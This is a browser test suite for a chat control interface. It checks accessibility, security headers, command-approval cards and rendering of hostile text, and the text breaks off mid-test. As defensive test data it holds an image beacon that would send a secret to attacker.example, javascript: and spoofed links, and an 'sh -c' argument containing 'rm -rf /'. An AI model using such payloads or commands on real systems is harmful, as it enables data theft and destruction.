// The parts of a conversation in a real browser, under the headers of the page: what people see, reach by keyboard and hear,
// and what hostile text cannot do. Nothing is behind them here; the page has its own tests.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { build } from 'esbuild';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { openBrowser, type TestBrowser } from '../support/browser.ts';
import { verifies } from '../support/verifies.ts';
import { hostileTexts } from './fixtures/chat-parts/hostile-texts.ts';

const ui = join(import.meta.dirname, '../../packages/control-ui/src');
const axe = readFileSync(join(import.meta.dirname, '../../node_modules/axe-core/axe.min.js'), 'utf8');
/** Where pictures go that somebody wants to look at; without it none are taken. */
const pictures = process.env.TENON_TEST_PICTURES;

const NONCE = 'bm9uY2Utb2YtdGhlLXRlc3Q';
const HEADERS = {
  'content-security-policy': `default-src 'none'; script-src 'self'; style-src 'self' 'nonce-${NONCE}'; img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'`,
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
};

const FRAME = `
  body { margin: 0; background: var(--surface); }
  h1, h2 { position: absolute; clip-path: inset(50%); width: 1px; height: 1px; overflow: hidden; white-space: nowrap; }
  .gallery { display: flex; flex-direction: column; height: 100dvh; box-sizing: border-box; }
  .gallery-tall { height: auto; }
  .gallery-tall .transcript-frame { flex: none; }
  .gallery-tall .transcript { overflow: visible; height: var(--tall, 200000px); }
  .gallery-dock { display: flex; flex-direction: column; align-items: center; padding: 8px 8px 4px; }
  .gallery-inbox { display: block; padding: 24px; max-width: 760px; }
`;

let server: Server;
let address: string;
let opened: TestBrowser;

before(async () => {
  const bundle = await build({
    stdin: {
      contents: `import './tokens.css'; import './chat/chat.css'; import { startGallery } from './chat/gallery.tsx';
        globalThis.gallery = startGallery(document.getElementById('root'));`,
      resolveDir: ui,
      loader: 'tsx',
    },
    bundle: true,
    format: 'esm',
    platform: 'browser',
    jsx: 'automatic',
    minify: true,
    define: { 'process.env.NODE_ENV': '"production"' },
    outdir: 'out',
    write: false,
  });
  const text = (end: string) => bundle.outputFiles.find((file) => file.path.endsWith(end))?.text ?? '';
  const files: Record<string, { readonly type: string; readonly body: string }> = {
    '/page.js': { type: 'text/javascript', body: text('.js') },
    '/page.css': { type: 'text/css', body: text('.css') + FRAME },
  };
  server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://page');
    const file = files[url.pathname];
    const body = file?.body ?? document(url.searchParams.get('theme') === 'dark' ? 'dark' : 'light');
    response.writeHead(200, { ...HEADERS, 'content-type': `${file?.type ?? 'text/html'}; charset=utf-8` }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  opened = await openBrowser();
});

after(async () => {
  await opened?.[Symbol.asyncDispose]();
  await new Promise((resolve) => server?.close(resolve));
});

function document(theme: string): string {
  return `<!doctype html><html lang="en" data-theme="${theme}"><head><meta charset="utf-8"><title>Parts</title>
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <link rel="icon" href="data:,"><link rel="stylesheet" href="/page.css"></head>
    <body><div id="root"></div><script type="module" src="/page.js"></script></body></html>`;
}

type Theme = 'light' | 'dark';
interface Opened extends AsyncDisposable {
  readonly page: Page;
  /** What the page did that its headers forbid, errors of its code, and requests to anywhere but its own server. */
  readonly faults: string[];
}

const DESKTOP = { viewport: { width: 760, height: 860 } };
const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };

async function open(theme: Theme = 'light', options: BrowserContextOptions = DESKTOP): Promise<Opened> {
  const context = await opened.browser.newContext({ timezoneId: 'UTC', ...options });
  const page = await context.newPage();
  const faults: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') faults.push(message.text());
  });
  page.on('pageerror', (error) => faults.push(String(error)));
  page.on('dialog', (dialog) => {
    faults.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(address) && !request.url().startsWith('data:')) faults.push(`request ${request.url()}`);
  });
  page.on('popup', (popup) => faults.push(`popup ${popup.url()}`));
  await page.addInitScript(`
    globalThis.seen = [];
    globalThis.frame = requestAnimationFrame.bind(globalThis);
    globalThis.pwned = (by) => seen.push('script ran: ' + by);
    addEventListener('securitypolicyviolation', (event) => seen.push(['violation', event.violatedDirective, event.blockedURI, event.sample].join(' ')));
  `);
  await page.goto(`${address}/?theme=${theme}`);
  await page.getByRole('log').waitFor();
  return { page, faults, [Symbol.asyncDispose]: () => context.close() };
}

/** Calls of `globalThis.gallery`, by text: the page is a browser's, and this file has none of its types. */
async function show(page: Page, view: object): Promise<void> {
  await page.evaluate((view) => (globalThis as unknown as { gallery: { show(view: object): void } }).gallery.show(view), view);
  await settled(page);
}

async function set(page: Page, change: object): Promise<void> {
  await page.evaluate((change) => (globalThis as unknown as { gallery: { set(change: object): void } }).gallery.set(change), change);
  await settled(page);
}

/** Two frames: what was asked for has been drawn and measured. Frames of the browser, also where its clock stands still. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(
    'new Promise((done) => frame(() => frame(() => { const { port1, port2 } = new MessageChannel(); port1.onmessage = done; port2.postMessage(0); })))',
  );
}

/** Waits for something that takes as many frames as it takes, such as a scroll. */
async function until(page: Page, expression: string): Promise<void> {
  for (let frame = 0; frame < 600; frame++) {
    if (await page.evaluate(expression)) return;
    await settled(page);
  }
  assert.fail(`it never came to ${expression}`);
}

function calls(page: Page): Promise<string[]> {
  return page.evaluate('gallery.calls.splice(0)');
}

async function picture(page: Page, name: string): Promise<void> {
  if (pictures === undefined) return;
  mkdirSync(pictures, { recursive: true });
  await page.screenshot({ path: join(pictures, `${name}.png`), fullPage: true });
}

async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe);
  const found = (await page.evaluate('axe.run(document, { resultTypes: ["violations"] })')) as {
    violations: { id: string; nodes: { html: string; failureSummary: string }[] }[];
  };
  return found.violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html.slice(0, 200)} ${node.failureSummary}`));
}

for (const theme of ['light', 'dark'] as const) {
  for (const [size, options] of [
    ['desktop', DESKTOP],
    ['phone', PHONE],
  ] as const) {
    test(`every part passes axe, stays inside the screen and keeps the page's rules (${theme}, ${size})`, async () => {
      await using shown = await open(theme, options);
      const { page, faults } = shown;
      for (const name of ['streamed', 'waiting', 'every', 'inbox', 'composers'] as const) {
        await show(page, { name });
        if (name === 'every') await fitTall(page);
        await picture(page, `${name}-${theme}-${size}`);
        assert.deepEqual(await page.evaluate('seen'), [], `${name}: what the page's own code did`);
        assert.deepEqual(await violations(page), [], name);
        assert.equal(await page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true, `${name} scrolls sideways`);
      }
      assert.deepEqual(faults, []);
    });
  }
}

async function fitTall(page: Page): Promise<void> {
  const height = await page.evaluate('document.querySelector(".transcript-rows").offsetHeight');
  await page.evaluate(`document.querySelector('.gallery').style.setProperty('--tall', '${Number(height)}px')`);
  await settled(page);
}

test('a rule of the style sheet names no colour of its own', () => {
  const css = readFileSync(join(ui, 'chat/chat.css'), 'utf8');
  assert.deepEqual(css.match(/#[0-9a-f]{3,8}\b|\brgba?\(|\bhsla?\(/gi), null);
});

test('hostile text in every field stays text', async () => {
  verifies('S63', 'S64', 'S65', 'S66');
  assert.ok(hostileTexts.length >= 200, `${hostileTexts.length} texts`);
  await using shown = await open();
  const { page, faults } = shown;
  for (let at = 0; at < hostileTexts.length; at += 12) {
    const texts = hostileTexts.slice(at, at + 12);
    await show(page, { name: 'hostile', texts });
    await openEverything(page);
    assert.equal(await page.locator('.row').count(), texts.length * 15, 'every field is on the page');
    assert.deepEqual(await page.evaluate(findMarkup), [], texts.join(' | '));
    // What people can touch runs nothing either.
    await page.evaluate('for (const each of document.querySelectorAll("[role=log] button:not([aria-expanded])")) each.click()');
    await page.evaluate(
      'for (const each of document.querySelectorAll("#root *")) each.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))',
    );
    await settled(page);
    assert.deepEqual(await page.evaluate('seen'), [], texts.join(' | '));
    assert.deepEqual(faults, [], texts.join(' | '));
  }
});

/** Opens what is folded, so that its text is on the page, too; three times, because some fold inside. */
async function openEverything(page: Page): Promise<void> {
  for (let round = 0; round < 3; round++) {
    await page.evaluate('for (const each of document.querySelectorAll("[role=log] [aria-expanded=false]")) each.click()');
    await settled(page);
  }
}

/** Runs in the page: everything in it that only markup, handlers, styles or ids of the text could have made. */
const findMarkup = `(() => {
  const root = document.getElementById('root');
  const found = [];
  const known = new Set(['A','ARTICLE','B','BDI','BLOCKQUOTE','BR','BUTTON','CODE','DD','DEL','DIV','DL','DT','EM','FORM','H1','H2','H3','H4','H5','H6','HR','IMG','INPUT','LI','MAIN','MARK','OL','OPTION','P','PRE','SECTION','SELECT','SPAN','STRONG','SUP','TABLE','TBODY','TD','TEXTAREA','TH','THEAD','TIME','TR','UL','path','rect','svg']);
  const styles = /^(height|top|text-align|--keyboard|--tall): [^;]*;?$/;
  for (const each of root.querySelectorAll('*')) {
    if (!known.has(each.tagName)) found.push('element ' + each.tagName);
    for (const { name, value } of each.attributes) {
      if (name.startsWith('on')) found.push('handler ' + each.outerHTML.slice(0, 120));
      if (name === 'id' && !/^_r_[0-9a-z]+_(-\\d+)?$/.test(value)) found.push('id ' + value);
      if (name === 'name' || name === 'srcset' || name === 'action' || name === 'formaction' || name === 'srcdoc') found.push('attribute ' + name);
      if (name === 'style' && !styles.test(value)) found.push('style ' + value);
    }
    if (each.tagName === 'A') {
      if (!['http:', 'https:', 'mailto:'].includes(each.protocol)) found.push('link ' + each.href);
      if (each.target !== '_blank' || each.rel !== 'noopener noreferrer') found.push('link that keeps a way back ' + each.outerHTML);
    }
    if (each.tagName === 'IMG' && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(each.getAttribute('src') ?? 'data:image/png;base64,')) found.push('image ' + each.src);
    if (each.tagName === 'INPUT' && each.type !== 'file') found.push('input ' + each.outerHTML);
  }
  for (const each of document.head.children) if (!['META', 'TITLE', 'LINK'].includes(each.tagName)) found.push('head ' + each.outerHTML);
  return found;
})()`;

test('a text that nobody could read takes nothing else away', async () => {
  await using shown = await open();
  const { page } = shown;
  const deep = [
    '>'.repeat(5_000),
    '- '.repeat(3_000),
    `${'*_'.repeat(990)}x${'_*'.repeat(990)}`,
    '['.repeat(3_900),
    '**a*b'.repeat(790),
    '![a]('.repeat(900),
  ];
  const items = deep.map((text, index) => ({
    kind: 'assistant',
    key: `deep${index}`,
    agent: 'main',
    at: 0,
    text: `${text} end${index}`,
    streaming: false,
  }));
  for (const [index, item] of items.entries()) {
    await show(page, { name: 'items', items: [item, ...talk(2)] });
    assert.match(await page.locator('.row').first().innerText(), new RegExp(`end${index}`));
    assert.ok(await page.getByText('question 0').isVisible());
  }
});

test('links open pages and mail, and say so when they go elsewhere than they read; the rest is text', async () => {
  verifies('S64');
  await using shown = await open();
  const { page } = shown;
  const text = [
    '[page](https://example.com/a) [mail](mailto:a@example.com) [plain](http://example.com)',
    '[script](javascript:pwned(1)) [relative](/settings) [beside](//attacker.example) [inside](#top)',
    '[https://good.example](https://attacker.example/x)',
  ].join('\n\n');
  await show(page, { name: 'items', items: [{ kind: 'assistant', key: 'a', agent: 'main', at: 0, text, streaming: false }] });
  const links = await page.locator('.md a').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
  assert.deepEqual(links, ['https://example.com/a', 'mailto:a@example.com', 'http://example.com/', 'https://attacker.example/x']);
  const words = await page.locator('.md').innerText();
  assert.match(words, /script javascript:pwned\(1\)/);
  assert.match(words, /relative \/settings/);
  assert.match(words, /beside \/\/attacker\.example/);
  assert.match(words, /https:\/\/good\.example \(goes to attacker\.example\)/);
});

test('an image on another host is named and not loaded; one inside the text is shown when asked', async () => {
  verifies('S65');
  await using shown = await open();
  const { page, faults } = shown;
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
  const text = `![beacon](https://attacker.example/?d=secret)\n\n![dot](data:image/png;base64,${dot})\n\n![drawing](data:image/svg+xml;base64,PHN2Zy8+)`;
  await show(page, { name: 'items', items: [{ kind: 'assistant', key: 'a', agent: 'main', at: 0, text, streaming: false }] });
  assert.equal(await page.locator('.md img').count(), 0);
  assert.ok(await page.getByRole('link', { name: 'Image beacon, on attacker.example' }).isVisible());
  await page.getByRole('button', { name: /^Show image dot/ }).click();
  assert.equal(
    await page.getByRole('img', { name: 'dot' }).evaluate((each) => (each as unknown as { naturalWidth: number }).naturalWidth),
    1,
  );
  assert.equal(await page.getByRole('button', { name: /drawing/ }).count(), 0);
  assert.deepEqual(faults, []);
  assert.deepEqual(await page.evaluate('seen'), []);
});

const SOMETHING = {
  agentId: 'main',
  sessionKey: 'agent:main:a',
  runId: 'run',
  callId: 'call',
  toolName: 'exec',
  title: 'Run this command?',
  reason: 'asks',
  risk: 'exec',
  args: {},
  digest: '00',
  principal: 'token:a',
  allowed: ['allow-once', 'allow-always', 'deny'],
  state: 'pending',
  createdAt: 0,
};

async function ask(page: Page, change: object = {}, more: readonly object[] = []): Promise<void> {
  const now = (await page.evaluate('gallery.now')) as number;
  const approval = { ...SOMETHING, id: 'approval-00000000aa', argv: ['ls', '-l'], expiresAt: now + 60_000, ...change };
  await show(page, {
    name: 'items',
    items: [
      { kind: 'user', key: 'u', author: 'Mara', at: now, text: 'Do it', state: 'sent' },
      { kind: 'approval', key: 'ap', approval },
      ...more,
    ],
  });
}

test('an approval shows every byte of a long command, its end in reach, and makes hidden characters visible', async () => {
  verifies('S53');
  await using shown = await open();
  const { page } = shown;
  const long = `${'a'.repeat(200_000)}; rm -rf / #end`;
  await ask(page, {
    argv: ['sh', '-c', long, 'two\nlines', 'left\u202etfel', 'no\u200bspace', '', 'spelled \\u{202e}'],
    args: { stdin: 'x\u0007y' },
  });
  const words = await page.locator('.argv-word').allInnerTexts();
  assert.equal(words.length, 8);
  assert.equal(words[2], long);
  assert.deepEqual(words.slice(3), ['two\\u{a}lines', 'left\\u{202e}tfel', 'no\\u{200b}space', '(empty)', 'spelled \\u{202e}']);
  // What is spelled out is told from what was hidden.
  assert.deepEqual(await page.locator('.argv mark').allInnerTexts(), ['\\u{a}', '\\u{202e}', '\\u{200b}']);
  assert.deepEqual(await page.locator('.argv-index').allInnerTexts(), ['0', '1', '2', '3', '4', '5', '6', '7']);
  assert.match(await page.locator('.exact-box').nth(1).innerText(), /stdin\s+x\\u\{7\}y/);
  const box = page.locator('.exact-box').first();
  await box.focus();
  await page.keyboard.press('End');
  await until(
    page,
    'document.querySelector(".exact-box").scrollTop + document.querySelector(".exact-box").clientHeight >= document.querySelector(".exact-box").scrollHeight - 2',
  );
  assert.equal(await page.evaluate('getComputedStyle(document.querySelector(".argv-word")).textOverflow'), 'clip');
});

test('an approval takes the focus to its question, and its keys decide only when they are meant', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [{ kind: 'user', key: 'u', author: 'Mara', at: 0, text: 'Do it', state: 'sent' }] });
  await stopClock(page);
  await ask(page);
  const card = page.getByRole('alertdialog', { name: 'Run this command?' });
  await card.waitFor();
  assert.equal(await page.evaluate('document.activeElement.textContent'), 'Run this command?');
  await page.keyboard.press('a');
  await page.clock.runFor(200);
  await page.keyboard.press('d');
  assert.deepEqual(await calls(page), [], 'keys that were pressed as the card appeared');
  await page.clock.runFor(200);
  await page.keyboard.press('g');
  await page.keyboard.press('a');
  assert.deepEqual(await calls(page), [], 'the second key of another command');
  await page.clock.runFor(1_100);
  await page.keyboard.press('Control+a');
  assert.deepEqual(await calls(page), []);
  await page.keyboard.press('a');
  assert.deepEqual(await calls(page), ['decide approval-00000000aa allow-once']);
  await page.keyboard.press('d');
  assert.deepEqual(await calls(page), ['decide approval-00000000aa deny']);
  for (const [name, decision] of [
    ['Deny', 'deny'],
    ['Allow once', 'allow-once'],
    ['Always for exactly this', 'allow-always'],
  ] as const) {
    await card.getByRole('button', { name }).click();
    assert.deepEqual(await calls(page), [`decide approval-00000000aa ${decision}`]);
  }
});

/** From here on the page's clock moves only when the test says so. */
async function stopClock(page: Page): Promise<void> {
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 60_000);
}

test('a question that is out of sight takes no focus and no key', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: talk(80) });
  const question = { kind: 'approval', key: 'ap', approval: { ...SOMETHING, id: 'approval-00000000cc', argv: ['ls'], expiresAt: 1 } };
  await stopClock(page);
  await page.getByRole('log').evaluate((log) => {
    (log as unknown as { scrollTop: number }).scrollTop = 0;
  });
  await page.getByRole('button', { name: 'Jump to latest' }).waitFor();
  await show(page, { name: 'items', items: [...talk(80), question] });
  assert.equal(await page.evaluate('document.activeElement.tagName'), 'BODY');
  // Put there all the same, it decides nothing until it is seen.
  await page.evaluate('document.querySelector(".approval-title").focus({ preventScroll: true })');
  await page.clock.runFor(2_000);
  await page.keyboard.press('a');
  assert.deepEqual(await calls(page), []);
  await page.getByRole('button', { name: 'Jump to latest' }).click();
  await page.locator('.approval-title').focus();
  await page.clock.runFor(2_000);
  await page.keyboard.press('a');
  assert.deepEqual(await calls(page), ['decide approval-00000000cc allow-once']);
});

test('an approval takes nobody away from what they write, and letters typed there decide nothing', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [{ kind: 'user', key: 'u', author: 'Mara', at: 0, text: 'Do it', state: 'sent' }] });
  await page.getByRole('textbox').focus();
  await stopClock(page);
  await ask(page);
  await page.getByRole('alertdialog').waitFor();
  await page.clock.runFor(2_000);
  await page.keyboard.type('add a day');
  assert.equal(await page.getByRole('textbox').inputValue(), 'add a day');
  assert.deepEqual(await calls(page), []);
});

test('a decided approval folds to one line that keeps the focus, and opens again', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [{ kind: 'user', key: 'u', author: 'Mara', at: 0, text: 'Do it', state: 'sent' }] });
  await ask(page);
  await page.getByRole('alertdialog').waitFor();
  await ask(page, { state: 'allowed', decision: 'allow-once', decidedBy: 'Mara', decidedAt: await page.evaluate('gallery.now') });
  assert.equal(await page.getByRole('alertdialog').count(), 0);
  assert.match(await page.locator('.approval-line').innerText(), /^Allowed once Run this command\?, Mara, 13:44\s+Details$/);
  assert.equal(await page.evaluate('document.activeElement.textContent'), 'Details');
  await page.keyboard.press('Enter');
  assert.deepEqual(await page.locator('.argv-word').allInnerTexts(), ['ls', '-l']);
});

test('on a phone the answers to a long question stick to the bottom and are large enough to touch', async () => {
  await using shown = await open('light', PHONE);
  const { page } = shown;
  await ask(page, { argv: Array.from({ length: 200 }, (_, index) => `word-${index}`), reason: 'long '.repeat(100) });
  await page.getByRole('log').evaluate((log) => {
    (log as unknown as { scrollTop: number }).scrollTop = 0;
  });
  await settled(page);
  await picture(page, 'sticky-phone');
  const log = await page.getByRole('log').boundingBox();
  const jump = await page.getByRole('button', { name: 'Jump to latest' }).boundingBox();
  for (const name of ['Deny', 'Allow once', 'Always for exactly this']) {
    const box = await page.getByRole('button', { name }).boundingBox();
    assert.ok(box && log && jump);
    assert.ok(box.height >= 44, `${name} is ${box.height} high`);
    assert.ok(box.y > log.y && box.y + box.height <= log.y + log.height, `${name} at ${JSON.stringify(box)} in ${JSON.stringify(log)}`);
    assert.ok(jump.y + jump.height < box.y, `the way down lies over ${name}`);
  }
});

test('Enter sends, Shift+Enter makes a line, and an input method keeps its Enter', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [] });
  const text = page.getByRole('textbox');
  await text.click();
  await page.keyboard.press('Enter');
  assert.deepEqual(await calls(page), [], 'nothing is sent where nothing is written');
  await page.keyboard.type('one');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('two');
  await page.keyboard.press('Enter');
  assert.deepEqual(await calls(page), ['send one\ntwo']);
  await page.keyboard.type('three');
  await page.keyboard.press('Control+Enter');
  assert.deepEqual(await calls(page), ['send three']);
  await set(page, { value: 'にほ' });
  await text.evaluate((each) =>
    (each as unknown as EventTarget).dispatchEvent(
      new (globalThis as never as { KeyboardEvent: new (name: string, init: object) => Event }).KeyboardEvent('keydown', {
        key: 'Enter',
        isComposing: true,
        bubbles: true,
        cancelable: true,
      }),
    ),
  );
  assert.deepEqual(await calls(page), []);
  await page.keyboard.press('Alt+ArrowUp');
  assert.equal(await text.inputValue(), 'the last one');
});

test('the composer grows with its text, up to a bound', async () => {
  await using shown = await open();
  const { page } = shown;
  const height = async () => (await page.getByRole('textbox').boundingBox())?.height ?? 0;
  const one = await height();
  await set(page, { value: 'a\nb\nc\nd' });
  assert.ok((await height()) > one * 3);
  await set(page, { value: 'a\n'.repeat(500) });
  assert.ok((await height()) <= 344);
  await set(page, { value: '' });
  assert.equal(await height(), one);
});

test('two presses of Escape stop the turn, one does not; queueing goes on while it runs', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [] });
  await set(page, { busy: true });
  await page.getByRole('textbox').click();
  await stopClock(page);
  await page.keyboard.press('Escape');
  await page.clock.runFor(1_000);
  await page.keyboard.press('Escape');
  assert.deepEqual(await calls(page), [], 'one, and later another');
  await page.keyboard.press('Escape');
  assert.deepEqual(await calls(page), ['stop']);
  await page.getByRole('button', { name: 'Stop' }).click();
  assert.deepEqual(await calls(page), ['stop']);
  await page.keyboard.press('Tab');
  await page.getByRole('textbox').fill('later');
  await page.getByRole('button', { name: 'Queue' }).click();
  assert.deepEqual(await calls(page), ['send later']);
});

test('a slash offers the commands that fit, by keyboard and by pointer', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [] });
  const text = page.getByRole('textbox');
  const offered = page.getByRole('listbox', { name: 'Commands' });
  await text.click();
  await page.keyboard.type('/');
  assert.deepEqual(await offered.getByRole('option').locator('code').allInnerTexts(), [
    '/help',
    '/model [id | default]',
    '/new [title]',
    '/stop',
  ]);
  assert.deepEqual(await violations(page), []);
  await page.keyboard.press('ArrowDown');
  assert.match(await offered.getByRole('option', { selected: true }).innerText(), /model/);
  assert.equal(await text.getAttribute('aria-activedescendant'), await offered.getByRole('option', { selected: true }).getAttribute('id'));
  await page.keyboard.press('Enter');
  assert.equal(await text.inputValue(), '/model ');
  assert.equal(await offered.count(), 0);
  await text.fill('/st');
  await page.keyboard.press('Enter');
  assert.equal(await text.inputValue(), '/stop');
  await page.keyboard.press('Enter');
  assert.deepEqual(await calls(page), ['send /stop']);
  await text.fill('/he');
  await page.keyboard.press('Escape');
  assert.equal(await offered.count(), 0);
  await text.fill('/n');
  await offered.getByRole('option').first().click();
  assert.equal(await text.inputValue(), '/new ');
  await text.fill('!ls');
  assert.match(await page.locator('.composer-hints').innerText(), /shell command/);
});

test('files are attached from the clipboard and by picking them, and what does not fit is refused in words', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: [] });
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Attach files' }).click()]);
  await chooser.setFiles([
    { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from('x') },
    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('x') },
  ]);
  await page.getByRole('textbox').evaluate((each) => {
    const { DataTransfer, File, ClipboardEvent } = globalThis as never as Record<
      string,
      new (
        ...args: unknown[]
      ) => { items: { add(file: unknown): void } }
    >;
    const clipboardData = new DataTransfer!();
    clipboardData.items.add(new File!(['x'], 'pasted.png', { type: 'image/png' }));
    (each as unknown as EventTarget).dispatchEvent(
      new ClipboardEvent!('paste', { clipboardData, bubbles: true, cancelable: true }) as unknown as Event,
    );
  });
  assert.deepEqual(await calls(page), ['files dot.png,notes.txt', 'files pasted.png']);
  await set(page, { filesReason: 'Files are still on their way', refused: ['huge.bin has 30 MB; a file may have 26 MB'] });
  assert.match(await page.locator('.composer-hints').innerText(), /huge\.bin has 30 MB/);
  const button = page.getByRole('button', { name: 'Send' });
  assert.equal(await button.getAttribute('title'), 'Files are still on their way');
  await button.click({ force: true });
  await set(page, { filesReason: undefined });
  await button.click();
  assert.deepEqual(await calls(page), ['send '], 'files alone are a message, once they have arrived');
});

test('a closed composer says why, and keeps the text', async () => {
  await using shown = await open();
  const { page } = shown;
  await set(page, { value: 'half a thou' });
  await set(page, { closed: { title: 'Not connected', detail: 'Next try in 4 s.', icon: 'offline' } });
  assert.equal(await page.getByRole('textbox').count(), 0);
  assert.match(await page.getByRole('region', { name: 'Message' }).innerText(), /Not connected\s+Next try in 4 s\. Your text is kept\./);
  await set(page, { closed: undefined });
  assert.equal(await page.getByRole('textbox').inputValue(), 'half a thou');
});

test('the pickers change the model, the thinking and the permissions by keyboard', async () => {
  await using shown = await open();
  const { page } = shown;
  await page.getByRole('combobox', { name: 'Model' }).selectOption('demo');
  assert.equal(await page.getByRole('combobox', { name: 'Model' }).inputValue(), 'demo');
  assert.equal(await page.getByRole('combobox', { name: 'Thinking' }).count(), 0, 'a model that does not think has nothing to choose');
  assert.equal(await page.getByRole('option', { name: 'far: no key' }).isDisabled(), true);
  await page.getByRole('combobox', { name: /without a question/ }).selectOption('bypass');
  assert.equal(await page.locator('.picker.tone-warn').count(), 1);
});

function talk(count: number, from = 0): object[] {
  return Array.from({ length: count }, (_, index) => {
    const n = from + index;
    return n % 2 === 0
      ? { kind: 'user', key: `k${n}`, author: 'Mara', at: 0, text: `question ${n}`, state: 'sent', entryId: `entry-${n}` }
      : {
          kind: 'assistant',
          key: `k${n}`,
          agent: 'main',
          at: 0,
          text: `answer ${n}\n\n${'words '.repeat((n * 7) % 90)}`,
          streaming: false,
        };
  });
}

const place = (page: Page) =>
  page.getByRole('log').evaluate((log) => {
    const { scrollTop, clientHeight, scrollHeight } = log as unknown as Record<string, number>;
    return { top: scrollTop!, fromEnd: scrollHeight! - clientHeight! - scrollTop! };
  });

test('ten thousand items draw a screenful, begin at the end, and follow an answer that grows', async () => {
  await using shown = await open();
  const { page, faults } = shown;
  const items = talk(10_000);
  await show(page, { name: 'items', items });
  await page.getByText('question 9998').waitFor();
  await settled(page);
  assert.ok((await page.locator('.row').count()) < 60);
  assert.ok((await place(page)).fromEnd <= 2);
  const growing = (words: number) => ({
    kind: 'assistant',
    key: 'grows',
    agent: 'main',
    at: 0,
    text: 'word '.repeat(words),
    streaming: true,
  });
  for (const words of [1, 200, 800]) {
    await show(page, { name: 'items', items: [...items.slice(-200), growing(words)] });
    await settled(page);
    const { fromEnd } = await place(page);
    assert.ok(fromEnd <= 2, `${fromEnd} from the end with ${words} words`);
  }
  await page.getByRole('log').hover();
  await page.mouse.wheel(0, -3_000);
  await page.getByRole('button', { name: 'Jump to latest' }).waitFor();
  const { top } = await place(page);
  await show(page, { name: 'items', items: [...items.slice(-200), growing(1_500)] });
  assert.ok(Math.abs((await place(page)).top - top) <= 2, 'who reads further up stays there');
  await page.getByRole('button', { name: 'Jump to latest' }).click();
  await page.getByRole('button', { name: 'Jump to latest' }).waitFor({ state: 'detached' });
  assert.ok((await place(page)).fromEnd <= 2);
  assert.deepEqual(faults, []);
});

test('a question that appears is seen whole by who reads the end, however large it is', async () => {
  await using shown = await open('light', { viewport: { width: 390, height: 700 } });
  const { page } = shown;
  await show(page, { name: 'items', items: talk(40) });
  const question = {
    ...SOMETHING,
    id: 'approval-00000000bb',
    argv: Array.from({ length: 12 }, (_, index) => `word-${index}`),
    expiresAt: 1,
    reason: 'long '.repeat(60),
  };
  await show(page, { name: 'items', items: [...talk(40), { kind: 'approval', key: 'ap', approval: question }] });
  await settled(page);
  assert.ok((await place(page)).fromEnd <= 2);
  assert.equal(await page.getByRole('button', { name: 'Jump to latest' }).count(), 0);
});

test('older items are asked for once near the top, and what is read keeps its place when they come', async () => {
  await using shown = await open();
  const { page } = shown;
  const items = talk(60, 60);
  await show(page, { name: 'items', items, hasOlder: true });
  await settled(page);
  assert.deepEqual(await calls(page), [], 'not while the reader is at the end');
  await page.getByRole('log').hover();
  await page.mouse.wheel(0, -100_000);
  await until(page, 'gallery.calls.length > 0');
  await settled(page);
  assert.deepEqual(await calls(page), ['older']);
  const first = page.getByText('question 60', { exact: true });
  const before = (await first.boundingBox())?.y ?? 0;
  await show(page, { name: 'items', items: [...talk(60), ...items], hasOlder: true });
  await settled(page);
  const after = (await first.boundingBox())?.y ?? 0;
  assert.ok(Math.abs(after - before) <= 2, `moved from ${before} to ${after}`);
});

test('the actions of a message are one stop of the Tab key and are reached by the arrow keys', async () => {
  await using shown = await open();
  const { page } = shown;
  await show(page, { name: 'items', items: talk(2) });
  await page.getByRole('log').focus();
  const names: string[] = [];
  for (const key of ['Tab', 'ArrowRight', 'ArrowRight']) {
    await page.keyboard.press(key);
    names.push((await page.evaluate('document.activeElement.getAttribute("aria-label")')) as string);
    await page.keyboard.press('Enter');
  }
  assert.deepEqual(names, ['Go back to before this', 'Go on from here in a new session', 'Copy the message']);
  assert.deepEqual((await calls(page)).slice(0, 3), ['rewind entry-0', 'fork entry-0', 'copy question 0']);
  const message = () => page.evaluate('document.activeElement.closest("[data-key]").dataset.key');
  const first = await message();
  await page.keyboard.press('Tab');
  assert.notEqual(await message(), first, 'the next stop is another message');
});

test('a screen reader hears finished sentences, the start and end of tools and what waits, once each', async () => {
  await using shown = await open();
  const { page } = shown;
  const heard = () => page.locator('[data-announcer] p').allInnerTexts();
  const base = talk(4);
  await show(page, { name: 'items', items: base });
